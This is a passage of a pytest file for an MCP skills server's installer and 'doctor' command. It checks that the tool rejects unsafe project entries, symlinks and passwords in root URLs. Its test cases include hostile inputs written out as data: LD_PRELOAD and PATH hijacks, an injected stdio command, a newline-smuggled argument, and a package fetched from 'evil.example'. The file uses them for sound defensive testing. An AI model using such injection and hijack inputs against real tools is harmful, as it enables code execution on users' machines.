    ([*OWN, "--include", "--config=evil.toml"], {}, "another program"),
    ([*OWN, "--allow-scripts"], {}, "another program"),
    (OWN, {"PYTHONPATH": "evil"}, "it sets PYTHONPATH"),
    (OWN, {"LD_PRELOAD": "evil.so"}, "it sets LD_PRELOAD"),
    (OWN, {"PATH": "evil"}, "it sets PATH"),
    (OWN, {"MCP_SKILLS_CONFIG": "evil.toml"}, "it sets MCP_SKILLS_CONFIG"),
    (OWN, {"MCP_SKILLS_ROOTS": "mcp+stdio:touch ran"}, "it sets MCP_SKILLS_ROOTS"),
    (OWN, {"MCP_SKILLS_ALLOW_SCRIPTS": "1"}, "it sets MCP_SKILLS_ALLOW_SCRIPTS"),
])  # fmt: skip
def test_doctor_starts_no_entry_of_the_project_that_can_do_more_than_read_skills(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, words: list[str], env: dict[str, str], reason: str
) -> None:
    platform = platform_below(tmp_path)
    here = platform.project
    here.mkdir()
    monkeypatch.chdir(here)
    for name in ("mcp-skills-server", "uvx", "pipx"):
        (here / name).write_text("#!/bin/sh\ntouch ran\n")
        (here / name).chmod(0o755)
    monkeypatch.setattr("mcp_skills_server.commands.install._BARE_PATH", f"{here}:/usr/bin:/bin")
    path = project_entry(platform, [word.replace("{here}", str(here)) for word in words], env)
    done = invoke(doctor, platform, "--project")
    assert f"{path}: " in done.stdout and reason in done.stdout and "it said" not in done.stdout
    assert done.return_value == 1
    assert not (here / "ran").exists()


def test_doctor_starts_a_harmless_entry_of_the_project_when_asked(platform: Platform, two_skills: Path) -> None:
    project_entry(platform, [*OWN, "--include=two", str(two_skills)], {"MCP_SKILLS_WATCH": "0"})
    done = invoke(doctor, platform, "--project")
    assert done.return_value == 0 and "works: 1 skill, " in done.stdout


@each_row(("words", "is_known"), [
    (["uvx", "mcp-skills-server", "serve", "x"], True),
    (["uvx", "mcp-skills-server@0.1.0", "serve"], True),
    (["uvx", "--from", "mcp-skills-server[watch,otel]==0.1.0", "mcp-skills-server", "serve", "--include=a"], True),
    (["uv", "tool", "run", "mcp-skills-server", "serve"], True),
    (["pipx", "run", "--spec", "mcp-skills-server[otel]", "mcp-skills-server", "serve", "/a b", "c"], True),
    (["mcp-skills-server", "serve", "x"], True),
    (["/opt/mcp-skills-server", "serve", "x"], True),
    (["/tmp/mcp-skills-server", "serve", "x"], False),
    (["mcp-skills-server", "serve", "--poll"], False),
    (["mcp-skills-server", "serve", "mcp+stdio:x"], False),
    (["mcp-skills-server", "serve\n--config=x"], False),
    (["mcp-skills-server", "acp", "serve"], False),
    (["uvx", "mcp-skills-server@https://evil.example/x.whl", "serve"], False),
    (["uvx", "mcp-skills-server-evil", "serve"], False),
    (["uvx", "mcp-skills-server", "--with", "evil", "serve"], False),
    (["/tmp/uvx", "mcp-skills-server", "serve"], False),
    (["uvx", "mcp-skills-server"], False),
    (["serve"], False),
    ([], False),
])  # fmt: skip
def test_command_line_that_can_only_read_skills_is_known(words: list[str], is_known: bool) -> None:
    assert edit.only_reads_skills(words, ["/opt/mcp-skills-server"]) is is_known


def test_doctor_starts_servers_in_a_folder_of_their_own(platform: Platform, tmp_path: Path) -> None:
    """In a shared folder, such as /tmp, Python would load other people's modules."""
    silent = tmp_path / "mcp-skills-server"
    silent.write_text("#!/bin/sh\npwd >&2; ls -A >&2; exit 1\n")
    silent.chmod(0o755)
    run(platform, "cursor", tmp_path, "--command", silent)
    said = invoke(doctor, platform, "cursor").stdout.partition("it said: ")[2]
    assert re.fullmatch(r"\S+/mcp-skills-doctor-\w+\n", said)


@each_row(("link", "target"), [(".cursor", "home"), (".cursor/mcp.json", "home/.bashrc")])
def test_install_writes_through_no_link_of_the_project(skills: Path, tmp_path: Path, link: str, target: str) -> None:
    platform = platform_below(tmp_path)
    place, outside = platform.project / link, tmp_path / target
    place.parent.mkdir(parents=True)
    (tmp_path / "home").mkdir()
    if target != "home":
        outside.write_text("{}")
    place.symlink_to(outside)
    before = sorted(map(str, outside.rglob("*"))), outside.is_file() and outside.read_text()
    for words in ([skills], [skills, "--dry-run"], ["--uninstall"]):
        said = usage_error(platform, "cursor", "--project", *words)
        assert f"a link leads to {outside}" in said
    assert before == (sorted(map(str, outside.rglob("*"))), outside.is_file() and outside.read_text())


def test_install_below_a_linked_project_or_home_follows_the_users_own_links(tmp_path: Path, skills: Path) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "link").symlink_to("real")
    run(platform_below(tmp_path / "link"), "cursor", skills, "--project")
    assert (tmp_path / "real" / "project" / ".cursor" / "mcp.json").exists()


@each_row(
    "root",
    ["https://me:PASSWORD@skills.example", "https://PASSWORD@skills.example/mcp", "git+https://PASSWORD@git.example/a",
     "mcp+https://me:PASSWORD@skills.example/mcp", "git+ssh://git:PASSWORD@git.example/a", "ftp://me:PASSWORD@h/a"],
)  # fmt: skip
def test_install_writes_and_shows_no_password_of_a_root(platform: Platform, root: str) -> None:
    said = usage_error(platform, "cursor", root)
    assert "PASSWORD" not in said and "the host's file would hold the password" in said
    assert not location(HOSTS["cursor"], platform).exists()


def test_doctor_reports_missing_entries_and_broken_files(platform: Platform) -> None:
    for words, code, host in (([], 0, "HOST"), (["zed"], 1, "zed")):
        done = invoke(doctor, platform, *words)
        line = f"no entry for this server; 'install {host} DIR' writes one\n"
        assert (done.return_value, done.stdout) == (code, line)
    path = write_config(platform, "zed", "{")
    done = invoke(doctor, platform)
    assert done.return_value == 1
    assert str(path) in done.stdout
    assert done.stdout.count("\n") == 1
    assert "zed/settings.json" in " ".join(listed_rows(platform)["zed"])
